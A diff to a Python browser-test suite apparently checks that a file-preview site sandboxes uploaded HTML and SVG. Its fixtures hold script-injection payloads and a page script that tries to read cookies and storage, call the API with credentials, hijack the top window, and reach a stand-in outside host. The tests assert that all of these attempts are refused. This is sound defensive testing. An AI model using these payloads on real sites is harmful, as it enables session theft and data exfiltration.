@@ -11,7 +11,9 @@ import zipfile
 import zlib
 from base64 import b64encode
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from threading import Thread
 
 import pyarrow as pa
 import pyarrow.parquet as pq
@@ -26,7 +28,32 @@ from trainmaster import Estimator, Experiment, Keyvault, Workspace
 SECRET = "hunter22-is-secret"
 ATTACK = "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>"
 NAME_ATTACK = "<img src=x onerror=alert(1)>.txt"
+# What a page of an attacker tries; it lists what it could do.
+PAGE_ATTACKS = """<h1>Title</h1><p id="done"></p><ul id="reached"></ul><script>
+  const note = (text) => (document.getElementById('reached').innerHTML += `<li>${text}</li>`);
+  const attempts = {
+    'the page around it': () => { if (parent === self) throw 1; parent.document.title = 'hacked'; },
+    'the window': () => { if (top === self) throw 1; top.location.href = '/hacked'; },
+    'cookies': () => document.cookie,
+    'storage': () => localStorage.length,
+    'another window': () => { if (!window.open('/hacked')) throw 1; },
+    'the API': () => fetch('/api/v1/me', {credentials: 'include'}),
+    'the network': () => fetch('OUTSIDE/fetch', {mode: 'no-cors'}),
+    'a picture': () => new Promise((good, bad) => { const it = new Image(); it.onload = it.onerror = (event) =>
+      event.type === 'load' ? good() : bad(); it.src = 'OUTSIDE/picture'; }),
+    'a script': () => new Promise((good, bad) => { const it = document.createElement('script'); it.onload = good;
+      it.onerror = bad; it.src = 'OUTSIDE/script'; document.body.append(it); }),
+  };
+  (async () => {
+    for (const [name, attempt] of Object.entries(attempts)) {
+      try { await attempt(); note(name); } catch { /* It was refused. */ }
+    }
+    document.getElementById('done').textContent = 'all was tried';
+  })();
+</script>"""
 MANY = 3000
+FILES = 13
+"""Besides the many."""
 SCRIPT = '''"""Writes files when it is told to."""
 import os, sys, time
 from trainmaster import Run
@@ -76,12 +103,6 @@ def studio_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Studio]:
             yield studio
 
 
-@pytest.fixture
-def studio(studio_server: Studio) -> Iterator[Studio]:
-    yield studio_server
-    studio_server.close_pages()
-
-
 @pytest.fixture(scope="module")
 def workspace(studio_server: Studio) -> Workspace:
     found = Workspace(path=studio_server.server.root / "workspaces" / WORKSPACE)
@@ -106,8 +127,39 @@ def job(workspace: Workspace, tmp_path_factory: pytest.TempPathFactory) -> Job:
     return Job(Experiment(workspace, "files").submit(estimator).id, gates)
 
 
+class Outside:
+    """Another site, which notes what it is asked for."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        asked = self.asked
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                asked.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *_: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+
+
 @pytest.fixture(scope="module")
-def written(workspace: Workspace) -> str:
+def outside() -> Iterator[Outside]:
+    found = Outside()
+    thread = Thread(target=found.server.serve_forever)
+    thread.start()
+    yield found
+    found.server.shutdown()
+    thread.join()
+    found.server.server_close()
+
+
+@pytest.fixture(scope="module")
+def written(workspace: Workspace, outside: Outside) -> str:
     """A run that has ended, with files of all kinds; returns its id."""
     run = Experiment(workspace, "written").start_logging()
     folder = workspace.path / "runs" / run.id / "files" / "outputs"
@@ -127,6 +179,8 @@ def written(workspace: Workspace) -> str:
         f"{drawing}<script>document.title='hacked'</script><rect width='9' height='9'/></svg>"
     )
     (folder / "page.html").write_text(f"<h1>Title</h1>{ATTACK}")
+    (folder / "attacks.html").write_text(PAGE_ATTACKS.replace("OUTSIDE", outside.url))
+    (folder / "leaving.html").write_text(f"<script>location.href = '{outside.url}/left'</script>stays")
     (folder / "notebook.ipynb").write_text(json.dumps(make_notebook()))
     (folder / "model.onnx").write_bytes(onnx_times(2.0, 3))
     (folder / "weights.bin").write_bytes(bytes(5000))
@@ -184,13 +238,13 @@ def test_files_appear_while_the_run_goes_on_and_secrets_stay_hidden(studio: Stud
 def test_thousands_of_files_are_filtered_and_walked_by_keys(studio: Studio, written: str) -> None:
     page = studio.open(f"runs/{written}/files")
     tree = page.get_by_role("tree")
-    expect(page.get_by_text(re.compile(rf"{MANY + 11} files"))).to_be_visible()
+    expect(page.get_by_text(re.compile(rf"{MANY + FILES} files"))).to_be_visible()
     tree.get_by_role("treeitem", name=re.compile("outputs")).click()
     tree.get_by_role("treeitem", name=re.compile("many")).click()
     expect(tree.get_by_role("treeitem", name="step_9.txt")).to_be_visible()
     assert tree.get_by_role("treeitem").count() < 100
     page.get_by_role("searchbox", name="Filter files by name").fill("step_29")
-    expect(page.get_by_text(f"111 of {MANY + 11}")).to_be_visible()
+    expect(page.get_by_text(f"111 of {MANY + FILES}")).to_be_visible()
     tree.focus()
     for key in ("Home", "ArrowDown", "ArrowDown", "Enter"):
         tree.press(key)
@@ -237,22 +291,54 @@ def test_pictures_notebooks_and_models_are_shown(studio: Studio, written: str) -
     expect(contents(page)).to_contain_text("there is no preview for its kind")
 
 
-@pytest.mark.parametrize(
-    "name", [NAME_ATTACK, "table.parquet", "drawing.svg", "page.html", "notebook.ipynb", "table.csv"]
-)
+@pytest.mark.parametrize("name", [NAME_ATTACK, "table.parquet", "notebook.ipynb", "table.csv"])
 def test_nothing_in_a_file_is_run(studio: Studio, written: str, name: str) -> None:
     """The policy of the page would refuse scripts, which fails the test as well: see `Studio`."""
     page = studio.open(f"runs/{written}/files?file=outputs/{name.replace('<', '%3C').replace('=', '%3D')}")
     expect(contents(page).get_by_role("heading", name=name)).to_be_visible()
     expect(page.get_by_role("status").filter(has_text="Loading")).to_have_count(0)
-    if name == "drawing.svg":
-        expect(page.get_by_role("img", name="outputs/drawing.svg")).to_have_js_property("naturalWidth", 40)
     assert "hacked" not in page.title()
     assert page.locator(".browser script, .browser iframe, .browser img[src=x], .browser svg").count() == 0
 
 
+@pytest.mark.parametrize("name", ["page.html", "drawing.svg"])
+def test_pages_and_drawings_are_shown_or_their_source(studio: Studio, written: str, name: str) -> None:
+    page = open_file(studio, written, f"outputs/{name}")
+    frame = page.frame_locator(f"iframe[title='Page outputs/{name}']")
+    expect(frame.locator("h1, rect").first).to_be_visible()
+    page.get_by_role("button", name="Source").click()
+    expect(contents(page)).to_contain_text("document.title='hacked'")
+    expect(page).to_have_url(re.compile("view=source"))
+    assert page.locator(".browser script, .browser iframe, .browser img[src=x], .browser svg").count() == 0
+    assert "hacked" not in page.title()
+    studio.close_refused(page)
+
+
+def test_a_page_runs_in_a_sandbox(studio: Studio, written: str, outside: Outside) -> None:
+    """Its scripts run and reach nothing, neither in the frame nor when its address is opened by itself."""
+    page = studio.open(f"runs/{written}/files?file=outputs/attacks.html")
+    frame = page.frame_locator("iframe")
+    expect(frame.locator("#done")).to_have_text("all was tried")
+    expect(frame.locator("#reached")).to_have_text("")
+    assert "hacked" not in page.title() and "hacked" not in page.url
+    # Without the attribute of the frame, only the headers protect the session.
+    page.goto(f"{studio.api}/runs/{written}/pages/outputs/attacks.html")
+    expect(page.locator("#done")).to_have_text("all was tried")
+    expect(page.locator("#reached")).to_have_text("")
+    studio.close_refused(page)
+    assert outside.asked == []
+
+
+def test_the_frame_of_a_page_stays_on_this_site(studio: Studio, written: str, outside: Outside) -> None:
+    page = studio.open(f"runs/{written}/files?file=outputs/leaving.html")
+    with page.expect_event("console", lambda message: "Framing" in message.text or "frame-src" in message.text):
+        page.reload()
+    studio.close_refused(page)
+    assert outside.asked == []
+
+
 def test_one_file_or_all_are_downloaded(studio: Studio, job: Job, written: str) -> None:
-    page = open_file(studio, written, "outputs/page.html")
+    page = studio.open(f"runs/{written}/files?file=outputs/page.html&view=source")
     with page.expect_download() as one:
         page.get_by_role("link", name="Download", exact=True).click()
     assert Path(one.value.path()).read_text() == f"<h1>Title</h1>{ATTACK}"
@@ -260,7 +346,7 @@ def test_one_file_or_all_are_downloaded(studio: Studio, job: Job, written: str) 
         page.get_by_role("link", name="Download all").click()
     with zipfile.ZipFile(everything.value.path()) as archive:
         assert archive.testzip() is None
-        assert len(archive.namelist()) == MANY + 11
+        assert len(archive.namelist()) == MANY + FILES
         assert archive.read("outputs/values.json") == b'{"loss":[1,2],"html":"<b>"}'
     answer = studio.server.request("GET", f"{studio.api}/runs/{job.id}/archive?prefix=azureml-logs/")
     with zipfile.ZipFile(io.BytesIO(answer.body)) as archive:
